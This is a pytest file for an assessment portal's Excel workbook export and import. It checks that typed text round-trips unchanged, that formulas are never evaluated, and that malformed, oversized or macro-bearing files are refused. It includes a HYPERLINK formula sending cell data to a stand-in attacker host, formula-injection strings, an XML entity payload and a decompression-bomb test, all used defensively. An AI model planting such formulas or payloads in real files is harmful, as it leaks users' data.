"""The workbook: what is written comes back as it was, nothing in it computes, and rubbish is refused."""

from __future__ import annotations

import io
import random
import re
from collections.abc import Callable, Iterable
from datetime import date, datetime

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.formula import ArrayFormula

from assessments.evidence.uploads import UploadRefused
from assessments.models import Content
from assessments.models.answer import TEXT_LIMIT
from assessments.offline.workbook import MAX_BYTES, Filled, Pages, Stamp, read, reading, write
from assessments.offline.workbook.layout import (
    ABOUT,
    ANSWER,
    COLUMNS,
    EXPLANATION,
    FACTS,
    HELPS_HERE,
    REASON,
    answers,
    escaped,
    found,
    unescaped,
)
from organisations.cells import is_formula
from tests.cast import questionnaire
from tests.uploads import DOCX, PDF, XLSX, office
from tests.workbooks import Book, cell, closed, fact, filled, opened, packed, parts

CHAIN = questionnaire()
STAMP = Stamp(7, 11, CHAIN.digest, "full", "Jaarronde 2026 van Gemeente Waterrijk", CHAIN.version)
FORMULA = '=HYPERLINK("http://kwaad.example/?"&A1)'
# Everything that LongText takes in: all but control codes, half pairs and private use.
TEXT = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cc", "Co", "Cs"], include_characters="\n\t"),
    max_size=80,
)
NASTY = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "'=1",
    " =1",
    "_x000D_",
    "_x005F_x0041_",
    "x005F_",
    "\n\nx\n ",
    "\t=1",
]
NASTY += ["👍🏽 é ", "\ufffe\uffff", "<f>1</f>&amp;]]>", "a" * TEXT_LIMIT, "👍" * TEXT_LIMIT, "\u200f\u202e"]


def pages(stored: dict[str, Content] | None = None, questions: Iterable[str] = ()) -> Pages:
    asked = tuple(one for one in CHAIN.questions if not questions or one.id in questions)
    versions = {id: (3, content) for id, content in (stored or {}).items()}
    return Pages(STAMP, CHAIN, asked, versions, date(2026, 12, 1))


def back(content: bytes, name: str = "vragen.xlsx") -> Filled:
    return read(io.BytesIO(content), name)


def refused(content: bytes, name: str = "vragen.xlsx") -> str:
    with pytest.raises(UploadRefused) as refusal:
        back(content, name)
    return str(refusal.value)


@pytest.fixture(scope="module")
def empty() -> bytes:
    return write(pages())


# There and back


@pytest.mark.parametrize("text", NASTY)
def test_any_text_comes_back_as_it_was_and_computes_nothing(text: str) -> None:
    content = write(
        pages({"PA-01": Content(state="not_applicable", reason=text, explanation=text)}, ["PA-01"])
    )
    assert not any(re.search(rb"<(\w+:)?f[ >/]", part) for part in parts(content).values())
    written = cell(opened(content), "PA-01", EXPLANATION)
    assert (written.data_type, written.quotePrefix or False) == ("s", is_formula(text))
    values = back(content).rows["PA-01"].values
    assert (values["reason"], values["explanation"]) == (text, text)


@settings(max_examples=60)
@given(TEXT)
@example("_x_x0041__x005F_")
def test_every_text_survives_the_cell_it_is_written_in(text: str) -> None:
    written = escaped(text)
    assert unescaped(written) == text
    assert not re.search("[\x00-\x08\x0b-\x1f\ufffe\uffff]", written)


@settings(max_examples=15)
@given(st.lists(TEXT, min_size=4, max_size=4))
def test_a_workbook_of_made_up_texts_comes_back(texts: list[str]) -> None:
    ids = [one.id for one in CHAIN.questions[:4]]
    stored = {id: Content(2, "", "", text, "partly") for id, text in zip(ids, texts, strict=True)}
    rows = back(write(pages(stored, ids))).rows
    assert {id: row.values["explanation"] for id, row in rows.items()} == dict(zip(ids, texts, strict=True))
    assert {(row.values["choice"], row.values["helps"]) for row in rows.values()} == {
        ("2 Vastgelegd", "deels")
    }


def test_texts_that_a_spreadsheet_program_shares_come_back_too() -> None:
    """Excel keeps each text once, in a part of its own, where openpyxl reads escapes in another way."""
    content = write(pages({"PA-01": Content(2, explanation="_x000D_ en x005F_")}, ["PA-01"]))
    package = parts(content)
    texts: list[bytes] = []

    def share(found: re.Match[bytes]) -> bytes:
        texts.append(found[2])
        return b"<c" + found[1] + b't="s"><v>%d</v></c>' % (len(texts) - 1)

    inline = re.compile(rb'<c([^>]*?)t="inlineStr"[^>]*><is>(<t.*?</t>)</is></c>', re.DOTALL)
    for name in [one for one in package if one.startswith("xl/worksheets/sheet")]:
        package[name] = inline.sub(share, package[name])
    main = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    package["xl/sharedStrings.xml"] = (
        b'<sst xmlns="%s">' % main + b"".join(b"<si>%s</si>" % text for text in texts) + b"</sst>"
    )
    kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    override = b'<Override PartName="/xl/sharedStrings.xml" ContentType="%s"/></Types>' % kind
    types = package["[Content_Types].xml"]
    package["[Content_Types].xml"] = types.replace(b"</Types>", override)
    assert texts and not inline.search(b"".join(package.values()))
    assert back(packed(package)).rows["PA-01"].values["explanation"] == "_x000D_ en x005F_"


def test_it_knows_what_it_belongs_to_and_what_was_stored() -> None:
    found = back(write(pages({"PA-02": Content(1)})))
    assert found.stamp == STAMP and found.remarks == []
    assert len(found.versions) == len(found.rows) == 82
    assert (found.versions["PA-01"], found.versions["PA-02"]) == (0, 3)


# What a person sees of it


def test_only_what_is_to_be_filled_in_can_be_changed(empty: bytes) -> None:
    book = opened(empty)
    assert book.sheetnames[0] == ABOUT and book[FACTS].sheet_state == "hidden"
    assert len(book.sheetnames) == 2 + len(CHAIN.links)
    for sheet in book.worksheets:
        assert sheet.protection.sheet and not sheet.protection.password
        for row in sheet.iter_rows(2 if sheet.title not in (ABOUT, FACTS) else 1):
            for column, one in enumerate(row):
                input_ = sheet.title not in (ABOUT, FACTS) and column >= COLUMNS.index(ANSWER)
                assert one.protection.locked is not input_, (sheet.title, one.coordinate)


def test_a_sheet_reads_and_prints_as_a_table(empty: bytes) -> None:
    sheet = opened(empty)["Pro-actie"]
    (table,) = sheet.tables.values()
    assert table.ref == "A1:H17" and [one.value for one in sheet[1]] == list(COLUMNS)
    assert sheet.freeze_panes == "B2" and sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert all(one.alignment.wrap_text for one in sheet[2])
    assert "0 Niet: Er is geen beleid." in sheet["D2"].value


def test_the_lists_offer_what_the_question_allows(empty: bytes) -> None:
    book = opened(empty)

    def offered(question: str, column: str) -> list[str]:
        at = cell(book, question, column)
        (rule,) = [one for one in at.parent.data_validations.dataValidation if at.coordinate in one.sqref]
        assert rule.showErrorMessage
        sheet, cells = rule.formula1.split("!")
        return [one.value for row in book[sheet][cells] for one in row]

    cases = next(one for one in CHAIN.questions if one.cases_only)
    assert offered("PA-01", ANSWER)[:5] == ["0 Niet", "1 Soms", "2 Vastgelegd", "3 Gedaan", "4 Lerend"]
    assert "niet voorgekomen" not in offered("PA-01", ANSWER)
    assert offered(cases.id, ANSWER)[-1] == "niet voorgekomen"
    assert offered("PA-01", HELPS_HERE) == ["ja", "deels", "nee", "weet ik niet"]


def test_a_text_may_be_as_long_as_the_portal_takes(empty: bytes) -> None:
    sheet = opened(empty)["Pro-actie"]
    lengths = [one for one in sheet.data_validations.dataValidation if one.type == "textLength"]
    assert [str(one.sqref) for one in lengths] == ["F2:F17", "H2:H17"]
    for one in lengths:
        assert (one.operator, one.formula1, one.formula2) == ("lessThanOrEqual", str(TEXT_LIMIT), None)
        assert one.showErrorMessage


def test_no_name_of_a_person_is_in_it_and_the_last_day_is(empty: bytes) -> None:
    said = " ".join(str(row[0].value) for row in opened(empty)[ABOUT].iter_rows())
    assert "tot en met 1 december 2026" in said and "Er gaat niets vanzelf naar het portaal" in said


# What a person types


@pytest.mark.parametrize(
    "typed, value",
    [
        *[("", ""), ("3", "3"), ("3 Gedaan", "3"), ("  3  gedaan ", "3"), ("Weet ik niet", "unknown")],
        *[("3 Iets", None), ("5", None), ("drie", None), ("niet voorgekomen", None), ("unknown", None)],
    ],
)
def test_an_answer_is_known_by_its_words_or_its_number(typed: str, value: str | None) -> None:
    assert found(typed, answers(CHAIN.question("PA-01"), CHAIN)) == value


def row(typed: dict[str, object]) -> reading.Row:
    content = write(pages(questions=["PA-01"]))
    return back(filled(content, {"PA-01": typed})).rows["PA-01"]


def test_numbers_are_taken_as_they_are_typed() -> None:
    got = row({ANSWER: 3, EXPLANATION: 2.5, REASON: 4.0})
    assert got.values == {"choice": "3", "reason": "4", "helps": "", "explanation": "2.5"} and not got.faults


@pytest.mark.parametrize("value", [FORMULA, "=1+1", ArrayFormula("H2", "=SUM(1)")])
def test_a_formula_is_not_taken_over_and_said(value: object) -> None:
    got = row({EXPLANATION: value, ANSWER: "3 Gedaan"})
    assert got.values["explanation"] == "" and got.values["choice"] == "3 Gedaan"
    assert got.faults == [
        "In de kolom Toelichting staat een formule. Formules nemen wij niet over. "
        "Schrijf de uitkomst zelf op."
    ]


@pytest.mark.parametrize("value", [datetime(2026, 3, 1), True, "#N/A"])
def test_a_date_or_a_fault_is_said(value: object) -> None:
    book = opened(write(pages(questions=["PA-01"])))
    at = cell(book, "PA-01", EXPLANATION)
    at.value, at.number_format = value, "dd-mm-yyyy"
    assert "staat een datum, waar of onwaar" in back(closed(book)).rows["PA-01"].faults[0]


# A workbook that was changed where it should not be


def changed(empty: bytes, *changes: Callable[[Book, Book], object]) -> Filled:
    """What is read after changes to the book and its first sheet of questions."""
    book: Book = opened(empty)
    for change in changes:
        change(book, book["Pro-actie"])
    return back(closed(book))


@pytest.mark.parametrize(
    "change, said",
    [
        (lambda book, sheet: book.remove(sheet), "Niet gevonden in het werkblad: PA-01, PA-10"),
        (lambda book, sheet: sheet.delete_rows(3), "Niet gevonden in het werkblad: PA-10."),
        (lambda book, sheet: sheet.delete_rows(1), "Het blad Pro-actie kennen wij niet, of de bovenste rij"),
        (
            lambda book, sheet: sheet.cell(1, 5, "Keuze"),
            "Het blad Pro-actie kennen wij niet, of de bovenste rij",
        ),
        (
            lambda book, sheet: book.create_sheet("Kladblad").append(["x"]),
            "Het blad Kladblad kennen wij niet",
        ),
        (lambda book, sheet: sheet.cell(3, 1, "XX-99"), "rijen die wij niet kennen: XX-99"),
    ],
)
def test_what_is_missing_or_strange_is_said_and_the_rest_is_read(
    empty: bytes, change: Callable[[Book, Book], object], said: str
) -> None:
    got = changed(empty, change)
    assert any(said in remark for remark in got.remarks), got.remarks
    assert "PV-01" in got.rows


def test_moved_columns_empty_rows_and_merged_cells_are_read(empty: bytes) -> None:
    got = changed(
        empty,
        lambda book, sheet: sheet.insert_cols(2),
        lambda book, sheet: sheet.insert_rows(4, 3),
        lambda book, sheet: sheet.merge_cells("I2:I3"),
    )
    assert got.remarks == [] and len(got.rows) == 82


def test_a_question_that_stands_there_twice_is_refused(empty: bytes) -> None:
    got = changed(empty, lambda book, sheet: sheet.cell(3, 1, "PA-01"))
    assert got.rows["PA-01"].faults == ["Deze vraag staat meer dan één keer in het werkblad."]


# What is no workbook of ours


def test_other_files_are_refused_with_the_reason(empty: bytes) -> None:
    assert "Dit is geen werkblad." in refused(PDF, "vragen.pdf")
    assert "Dit is geen werkblad." in refused(office(DOCX), "vragen.docx")
    assert "geen werkblad van dit portaal" in refused(office(XLSX))
    assert "beschadigd" in refused(packed({**parts(empty), "xl/workbook.xml": b"<x"}))
    assert "te groot" in refused(empty + b" " * MAX_BYTES)
    assert "macro" in refused(packed({**parts(empty), "xl/vbaProject.bin": b"x"}))
    assert "De naam van het bestand" in refused(empty, "vragen.xlsm")


def test_a_workbook_without_its_hidden_sheet_or_of_an_older_portal_is_refused(empty: bytes) -> None:
    book = opened(empty)
    del book[FACTS]
    assert "geen werkblad van dit portaal" in refused(closed(book))
    assert "geen werkblad van dit portaal" in refused(fact(empty, "round", "zeven"))
    assert "geen werkblad van dit portaal" in refused(fact(empty, "person", ""))
    assert "oudere versie van het portaal" in refused(fact(empty, "layout", "0"))


def test_a_million_rows_cost_nothing(empty: bytes) -> None:
    package = parts(empty)
    package["xl/worksheets/sheet2.xml"] = (
        package["xl/worksheets/sheet2.xml"]
        .replace(b'<dimension ref="A1:H17"', b'<dimension ref="A1:XFD1048576"')
        .replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"/></row></sheetData>')
    )
    assert len(back(packed(package)).rows) == 82


@pytest.mark.parametrize(
    "part, content",
    [
        ("xl/styles.xml", b"<x/>" * 100_001),
        ("xl/styles.xml", b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'),
        ("xl/worksheets/sheet2.xml", b"<worksheet>" * 50_000),
        ("xl/workbook.xml", b"<x/>"),
        ("xl/workbook.xml", b""),
        ("xl/styles.xml", b"geen xml"),
        ("xl/_rels/workbook.xml.rels", b"<Relationships/>"),
        ("xl/worksheets/sheet2.xml", bytes(range(256))),
        ("docProps/custom.xml", b"\xff\xfe<"),
    ],
)
def test_a_part_with_rubbish_is_refused_and_no_error(empty: bytes, part: str, content: bytes) -> None:
    package = {**parts(empty), part: content}
    try:
        back(packed(package))
    except UploadRefused:
        return
    assert part == "docProps/custom.xml"  # which nothing reads


def test_more_than_it_may_unpack_to_is_refused(empty: bytes) -> None:
    package = {**parts(empty), "x.bin": random.Random(1).randbytes(4_000_000) + b"0" * 12_000_000}
    assert "te groot voor een werkblad" in refused(packed(package))


def test_a_workbook_broken_anywhere_is_refused_or_read_and_never_an_error(empty: bytes) -> None:
    chance = random.Random(2026)
    package = parts(empty)
    xml = [name for name in package if name.endswith((".xml", ".rels"))]
    for _ in range(120):
        name = chance.choice(xml)
        content = bytearray(package[name])
        at = chance.randrange(len(content))
        content[at : at + chance.randrange(4)] = chance.choice(
            [b"", b"<", b'"', b"9" * 30, b"\x00", b"&#0;", b"-1"]
        )
        try:
            back(packed({**package, name: bytes(content)}))
        except UploadRefused:
            continue
    for at in range(0, len(empty), len(empty) // 40):
        refused(empty[:at])


def test_a_cell_as_large_as_it_may_be_is_read(empty: bytes) -> None:
    book = opened(empty)
    cell(book, "PA-01", EXPLANATION).value = "a" * 32_767
    assert len(back(closed(book)).rows["PA-01"].values["explanation"]) == 32_767
